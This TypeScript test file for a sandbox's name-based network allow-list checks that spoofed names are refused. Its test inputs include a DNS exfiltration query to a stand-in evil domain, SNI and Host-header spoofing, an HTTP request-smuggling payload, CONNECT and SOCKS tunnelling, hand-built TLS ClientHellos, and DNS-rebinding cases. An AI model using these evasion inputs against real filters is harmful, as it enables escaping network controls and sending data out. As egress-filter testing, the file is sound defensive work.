/** SECURITY D 28-30: rules by name, and every way in which a name could be pretended. */
import type { NetworkRules } from '@caisson/protocol/resources'
import { describe, expect } from 'vitest'
import { attempt, cannotNetwork, each, inside, PRIVATE, PUBLIC, test } from './fixture.ts'

const { example, other, evil, google, cloudflare } = PUBLIC
const REFUSED = /^(ECONNREFUSED|EHOSTUNREACH|EACCES|ENETUNREACH)$/
const NO = /^(curl (6|7|35|52|55|56)|403|no address|NXDOMAIN 0|REFUSED 0|ok 0)$/

describe.skipIf(cannotNetwork)('rules by name', () => {
  const RULES: NetworkRules = { allow: ['example.com', '*.example.com', 'google.test:9000'] }

  test('open HTTP and HTTPS of these names, and a port that is named', async ({ world, server }) => {
    await using box = await inside(world, server, RULES)
    const tries = {
      https: "reached('https://example.com/')",
      http: "reached('http://example.com/')",
      wildcard: "reached('https://www.example.com/')",
      deep: "reached('https://a.b.example.com/')",
      'upper case and a last dot':
        "reached('--resolve', 'WWW.EXAMPLE.COM.:80:93.184.216.34', 'http://WWW.EXAMPLE.COM./')",
      port: "tcp(resolve('google.test', socket.AF_INET), 9000, b'x')",
      'port, UDP': "udp(resolve('google.test', socket.AF_INET), 9000)",
      IPv6: "reached('-6', 'https://example.com/')",
      upload: "reached('-d', '@/usr/bin/git', 'https://example.com/')",
    }
    expect(await attempt(box, tries)).toEqual(each(tries, 'ok'))
  })

  test('open nothing else: other names, other ports, their addresses as such, other protocols', async ({
    world,
    server,
  }) => {
    await using box = await inside(world, server, RULES)
    await attempt(box, { pinned: "resolve('google.test')", known: "resolve('example.com')" })
    await world.forget()
    const said = await attempt(box, {
      'another name': "reached('https://other.test/')",
      'another name by HTTP': "reached('http://other.test/')",
      'a name that only ends alike': "reached('http://evilexample.com/')",
      'resolving another name': "resolve('other.test')",
      'its type TXT': "query('txt.evil.test', kind=16)",
      'hints that lead past the check (HTTPS records)': "query('example.com', kind=65)",
      'DNS exfiltration': "query('c2VjcmV0.tunnel.evil.test')",
      'address, TLS without a name': `reached('https://${example.v4}/')`,
      'address by HTTP': `reached('http://${example.v4}/')`,
    })
    for (const [name, outcome] of Object.entries(said)) expect.soft(outcome, name).toMatch(NO)
    const packets = await attempt(box, {
      'another port of an allowed name': `tcp('${example.v4}', 22)`,
      'another port of a pinned name': `tcp('${google.v4}', 22)`,
      QUIC: `udp('${example.v4}', 443)`,
      'DNS over TLS': `tcp('${cloudflare.v4}', 853)`,
      'DNS over QUIC': `udp('${cloudflare.v4}', 853)`,
      'address that no rule names': `tcp('${evil.v4}', 9000)`,
      'address that no rule names, IPv6': `tcp('${evil.v6}', 9000)`,
    })
    for (const [name, outcome] of Object.entries(packets)) expect.soft(outcome, name).toMatch(REFUSED)
    // mDNS and LLMNR are multicast: they go nowhere, which a client sees as silence.
    expect((await attempt(box, { mdns: "query('other.test', '224.0.0.251')" })).mdns).not.toMatch(/^ok/)
    const reachedServers = (await world.seen()).filter(({ kind }) => kind !== 'dns')
    expect(reachedServers).toEqual([])
    expect((await world.queries()).filter((name) => /evil|other/.test(name))).toEqual([])
    expect(await world.seenPrivate()).toEqual([])
  })

  test('a pretended name leads to the host of that name, never to the address that was dialled', async ({
    world,
    server,
  }) => {
    await using box = await inside(world, server, RULES)
    await world.forget()
    const said = await attempt(box, {
      'SNI of an allowed host, address of another': `curl('--resolve', 'www.example.com:443:${evil.v4}', 'https://www.example.com/spoof')`,
      'Host of an allowed host, address of another': `curl('-H', 'Host: www.example.com', 'http://${evil.v4}/spoof')`,
    })
    for (const [name, outcome] of Object.entries(said))
      expect.soft(outcome, name).toMatch(/^(\{"address":"(93\.184\.216\.34|2606:2800:220:1::1)"|curl)/)
    expect((await world.seen()).filter(({ address }) => address === evil.v4 || address === evil.v6)).toEqual(
      [],
    )
  })

  test('every request and every handshake is judged by its own name', async ({ world, server }) => {
    await using box = await inside(world, server, RULES)
    await world.forget()
    const http = (text: string) => `talk('${example.v4}', 80, ${JSON.stringify(text)}.encode('latin1'))`
    const said = await attempt(box, {
      'SNI that is denied': `reached('--resolve', 'other.test:443:${example.v4}', 'https://other.test/')`,
      'Host that is denied': http('GET / HTTP/1.1\r\nHost: other.test\r\n\r\n'),
      'second request': http(
        'GET /first HTTP/1.1\r\nHost: example.com\r\n\r\nGET /second HTTP/1.1\r\nHost: other.test\r\n\r\n',
      ),
      'absolute form': http('GET http://other.test/abs HTTP/1.1\r\nHost: example.com\r\n\r\n'),
      'two Hosts': http('GET /two HTTP/1.1\r\nHost: example.com\r\nHost: other.test\r\n\r\n'),
      'Host with NUL': http('GET /nul HTTP/1.1\r\nHost: other.test\0.example.com\r\n\r\n'),
      'Host with @': http('GET /at HTTP/1.1\r\nHost: example.com@other.test\r\n\r\n'),
      'Host with another port': http('GET /port HTTP/1.1\r\nHost: example.com:22\r\n\r\n'),
      'no Host': http('GET /none HTTP/1.0\r\n\r\n'),
      CONNECT: http('CONNECT other.test:443 HTTP/1.1\r\nHost: example.com\r\n\r\n'),
      'CONNECT to an allowed one': http('CONNECT example.com:22 HTTP/1.1\r\nHost: example.com:22\r\n\r\n'),
      'absolute form with TLS': http('GET https://example.com/tls HTTP/1.1\r\nHost: example.com\r\n\r\n'),
      'HTTP/2 at once': http('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
      'two lengths': http(
        'POST /smuggle HTTP/1.1\r\nHost: example.com\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /evil HTTP/1.1\r\nHost: other.test\r\n\r\n',
      ),
      'not HTTP': http('SSH-2.0-OpenSSH\r\n'),
      SOCKS5: `talk('${example.v4}', 80, b'\\x05\\x01\\x00')`,
      'WebSocket to a denied host': http(
        'GET /ws HTTP/1.1\r\nHost: other.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n',
      ),
    })
    expect(said['SNI that is denied']).toMatch(NO)
    for (const [name, outcome] of Object.entries(said))
      expect
        .soft(outcome.replace(/HTTP\/1\.1 200[\s\S]*"url":"\/first"/, ''), name)
        .not.toMatch(/"address"|HTTP\/1\.1 (101|200)/)
    expect(said['second request']).toMatch(/\/first[\s\S]*403/)
    const seen = (await world.seen()).filter(({ kind }) => kind === 'http')
    expect(seen.map(({ what }) => what).sort()).toEqual(['GET /first'])
    expect((await world.queries()).filter((name) => name.includes('other'))).toEqual([])
  })

  test('an upgrade to HTTP/2, whose requests could not be judged, is not passed on', async ({
    world,
    server,
  }) => {
    await using box = await inside(world, server, RULES)
    const upgrade =
      'GET /h2c HTTP/1.1\\r\\nHost: example.com\\r\\nConnection: Upgrade, HTTP2-Settings\\r\\nUpgrade: h2c\\r\\nHTTP2-Settings: AAMAAABk\\r\\n\\r\\n'
    const { h2c } = await attempt(box, { h2c: `talk('${example.v4}', 80, b'${upgrade}')` })
    expect(h2c).not.toMatch(/^HTTP\/1\.1 101/)
    expect((await world.seen()).filter(({ what }) => what.startsWith('UPGRADE /h2c'))).toEqual([])
  })

  test('a WebSocket to an allowed host works', async ({ world, server }) => {
    await using box = await inside(world, server, RULES)
    const upgrade =
      'GET /ws HTTP/1.1\\r\\nHost: www.example.com\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n\\r\\nping'
    const { ws } = await attempt(box, { ws: `talk('${example.v4}', 80, b'${upgrade}')` })
    expect(ws).toMatch(/^HTTP\/1\.1 101 [\s\S]*s3pPLMBiTxaQ9kYGzzhZRbK\+xOo=[\s\S]*ping$/)
  })

  test('TLS that hides or mangles its name is refused', async ({ world, server }) => {
    await using box = await inside(world, server, RULES)
    await world.forget()
    const hello = (name: string) =>
      `talk('${example.v4}', 443, bytes.fromhex('${clientHello(Buffer.from(name, 'latin1')).toString('hex')}'))`
    const refused = {
      'NUL inside': hello('other.test\0.example.com'),
      'an address': hello(example.v4),
      'a control byte': hello('exa\x01mple.com'),
      'another name': hello('evil.test'),
      'not TLS': `talk('${example.v4}', 443, b'SSH-2.0-x\\r\\n')`,
    }
    for (const [name, said] of Object.entries(await attempt(box, refused)))
      expect.soft(said, name).toMatch(/^(|ECONNRESET|ECONNREFUSED|EPIPE)$/)
    expect((await world.seen()).filter(({ kind }) => kind !== 'dns')).toEqual([])
  })

  test('an allowed name that stands for a denied, private or moving address opens nothing', async ({
    world,
    server,
  }) => {
    await using box = await inside(world, server, {
      allow: ['*.evil.test', 'private.evil.test:22', 'cdn.example.com'],
      deny: [other.v4, 'edge.other.test'],
    })
    await world.forget()
    const said = await attempt(box, {
      private: "reached('http://private.evil.test/')",
      'private, TLS': "reached('https://private.evil.test/')",
      'private, dialled by ourselves': `curl('-H', 'Host: private.evil.test', 'http://${evil.v4}/')`,
      'private port': `tcp('${PRIVATE.lan}', 22)`,
      metadata: "reached('http://meta.evil.test/')",
      alias: "reached('http://alias.evil.test/')",
      mapped: "reached('http://mapped.evil.test/')",
      zero: "reached('http://zero.evil.test/')",
      loop: "reached('http://loop.evil.test/')",
      'alias to a denied address': "reached('https://cdn.example.com/')",
    })
    for (const [name, outcome] of Object.entries(said))
      expect.soft(outcome, name).not.toMatch(/^ok$|"address"/)
    for (let turn = 0; turn < 6; turn++)
      await attempt(box, { flip: "reached('http://flip.evil.test/')", raw: `tcp('${PRIVATE.lan}', 80)` })
    expect(await attempt(box, { mixed: "reached('http://mixed.evil.test/')" })).toEqual({ mixed: 'ok' })
    expect(await world.seenPrivate()).toEqual([])
    expect(
      (await world.seen()).filter(({ address, kind }) => address === other.v4 && kind !== 'dns'),
    ).toEqual([])
  })
})

/** A TLS 1.2 client's first message with this server name, whatever its bytes. */
function clientHello(name: Buffer): Buffer {
  const u16 = (n: number) => Buffer.from([n >> 8, n & 255])
  const sized = (body: Buffer) => Buffer.concat([u16(body.length), body])
  const serverName = sized(Buffer.concat([Buffer.from([0]), sized(name)]))
  const extensions = sized(Buffer.concat([u16(0), sized(serverName)]))
  const body = Buffer.concat([
    Buffer.from([3, 3]),
    Buffer.alloc(32, 7),
    Buffer.from([0]),
    sized(Buffer.from([0xc0, 0x2f])),
    Buffer.from([1, 0]),
    extensions,
  ])
  const handshake = Buffer.concat([Buffer.from([1, 0]), u16(body.length), body])
  return Buffer.concat([Buffer.from([22, 3, 1]), sized(handshake)])
}
